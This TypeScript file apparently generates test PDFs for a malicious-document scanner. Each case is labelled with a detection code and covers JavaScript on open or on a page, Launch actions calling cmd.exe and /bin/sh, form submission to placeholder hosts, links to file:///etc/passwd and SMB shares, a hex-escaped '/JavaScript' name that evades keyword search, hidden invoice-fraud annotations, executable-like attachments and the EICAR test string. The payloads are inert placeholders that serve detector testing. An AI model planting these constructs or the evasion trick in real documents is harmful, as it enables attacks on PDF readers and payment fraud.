import { PDFHexString, PDFName, PDFString, type PDFObject } from 'pdf-lib';
import { attack, canvas, saved, type Attack, type Canvas } from './attack.js';
import { annotated } from './instructions.js';

type Action = Readonly<Record<string, PDFObject | string>>;

const script = (text = 'app.alert(1)'): Action => ({ S: 'JavaScript', JS: PDFString.of(text) });
const link = (address: string): Action => ({ S: 'URI', URI: PDFString.of(address) });

function register({ document }: Canvas, action: Action) {
  return document.context.register(document.context.obj({ Type: 'Action', ...action }));
}

async function opening(action: Action, packed = false): Promise<Uint8Array> {
  const on = await canvas();
  on.document.catalog.set(PDFName.of('OpenAction'), register(on, action));
  return saved(on, packed);
}

async function onPage(event: string, action: Action): Promise<Uint8Array> {
  const on = await canvas();
  on.page.node.set(PDFName.of('AA'), on.document.context.obj({ [event]: register(on, action) }));
  return saved(on);
}

async function clicked(action: Action): Promise<Uint8Array> {
  const on = await canvas();
  const { context } = on.document;
  const annotation = context.obj({
    Type: 'Annot',
    Subtype: 'Link',
    Rect: [50, 50, 200, 70],
    A: register(on, action),
  });
  on.page.node.set(PDFName.of('Annots'), context.obj([context.register(annotation)]));
  return saved(on);
}

async function inCatalog(key: string, value: (on: Canvas) => PDFObject): Promise<Uint8Array> {
  const on = await canvas();
  on.document.catalog.set(PDFName.of(key), value(on));
  return saved(on);
}

async function withField(flags: number): Promise<Uint8Array> {
  const on = await canvas();
  const field = on.document.getForm().createTextField('total');
  field.addToPage(on.page, { x: 330, y: 380, width: 200, height: 20 });
  field.setText('USD 98,765.43');
  for (const widget of field.acroField.getWidgets()) widget.setFlags(flags);
  return saved(on);
}

async function annotationOf(subtype: string): Promise<Uint8Array> {
  const on = await canvas();
  const { context } = on.document;
  const annotation = context.obj({ Type: 'Annot', Subtype: subtype, Rect: [50, 50, 200, 70] });
  on.page.node.set(PDFName.of('Annots'), context.obj([context.register(annotation)]));
  return saved(on);
}

/** `/JavaScript`, written so that a search for the word finds nothing. */
async function disguisedName(): Promise<Uint8Array> {
  const bytes = await opening(script());
  return Buffer.from(
    Buffer.from(bytes).toString('latin1').replace('/S /JavaScript', '/S /J#61vaScrip#74'),
    'latin1',
  );
}

export async function activeContent(): Promise<Attack[]> {
  const js = ['pdf_javascript'];
  const made: readonly (readonly [string, readonly string[], Promise<Uint8Array>])[] = [
    ['a script on opening', js, opening(script())],
    ['a script in an object stream', js, opening(script(), true)],
    ['a script under a disguised name', js, disguisedName()],
    ['a script on a page', js, onPage('O', script())],
    ['a script behind a link', js, clicked(script('this.submitForm("https://x.example")'))],
    [
      'a script by name',
      js,
      inCatalog('Names', (on) => {
        const { context } = on.document;
        return context.obj({ JavaScript: { Names: [PDFHexString.fromText('go'), register(on, script())] } });
      }),
    ],
    ['a program on opening', ['pdf_launch'], opening({ S: 'Launch', F: PDFString.of('cmd.exe') })],
    ['a program behind a link', ['pdf_launch'], clicked({ S: 'Launch', F: PDFString.of('/bin/sh') })],
    [
      'a form that is sent',
      ['pdf_submit'],
      clicked({ S: 'SubmitForm', F: PDFString.of('https://x.example') }),
    ],
    ['data that are fetched', ['pdf_submit'], onPage('O', { S: 'ImportData', F: PDFString.of('x.fdf') })],
    ['another file', ['pdf_remote'], clicked({ S: 'GoToR', F: PDFString.of('\\\\host\\share\\x.pdf') })],
    ['an embedded file that opens', ['pdf_remote'], opening({ S: 'GoToE', F: PDFString.of('x.pdf') })],
    ['an address that opens by itself', ['pdf_open_action'], opening(link('https://x.example/seen'))],
    ['an address that opens with the page', ['pdf_open_action'], onPage('O', link('https://x.example/seen'))],
    ['a link to a script', ['pdf_odd_link'], clicked(link('javascript:alert(1)'))],
    ['a link to a local file', ['pdf_odd_link'], clicked(link('file:///etc/passwd'))],
    ['a link to data', ['pdf_odd_link'], clicked(link('data:text/html;base64,PGI+'))],
    ['a link to a share', ['pdf_odd_link'], clicked(link('smb://10.0.0.1/x'))],
    ['a film', ['pdf_media'], annotationOf('Movie')],
    ['rich media', ['pdf_media'], annotationOf('RichMedia')],
    ['a scene in space', ['pdf_media'], annotationOf('3D')],
    [
      'a form that draws itself',
      ['pdf_xfa'],
      inCatalog('AcroForm', ({ document: { context } }) =>
        context.obj({ Fields: [], XFA: context.register(context.stream('<xdp:xdp/>')) }),
      ),
    ],
    ['text in an annotation', ['text_in_annotation'], annotated('FreeText', 'Amount due USD 98,765.43', 4)],
    [
      'text in a hidden annotation',
      ['hidden_annotation'],
      annotated('FreeText', 'Amount due USD 98,765.43', 2),
    ],
    [
      'a note that is not to be viewed',
      ['hidden_annotation'],
      annotated('Text', 'Pay to Novadyne Trading Ltd', 32),
    ],
    ['a field over the total', ['text_in_annotation'], withField(4)],
    ['a hidden field', ['text_in_annotation', 'hidden_annotation'], withField(2)],
  ];
  return Promise.all(
    made.map(async ([name, codes, bytes]) => attack('active content', name, codes, await bytes)),
  );
}

const files: readonly (readonly [string, string, Buffer])[] = [
  ['update.exe', 'attachment_program', Buffer.from('MZ\x90\0')],
  ['details.xml', 'attachment_program', Buffer.from('MZ\x90\0 disguised')],
  ['run.js', 'attachment_program', Buffer.from('WScript.Shell')],
  ['open.html', 'attachment_program', Buffer.from('<html></html>')],
  ['all.zip', 'attachment_program', Buffer.from('PK\x03\x04')],
  ['sheet.xlsm', 'attachment_program', Buffer.from('PK\x03\x04')],
  ['tool', 'attachment_program', Buffer.from('\x7fELF')],
  ['shortcut.lnk', 'attachment_program', Buffer.from('L\0\0\0')],
  ['blob.bin', 'attachment_unexpected', Buffer.from([1, 2, 3])],
  [
    'virus.txt',
    'malware_test_file',
    Buffer.from(['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('')),
  ],
];

export async function attachments(): Promise<Attack[]> {
  return Promise.all(
    files.map(async ([name, code, bytes]) => {
      const on = await canvas();
      await on.document.attach(bytes, name, {});
      return attack('attachment', name, [code], await saved(on));
    }),
  );
}
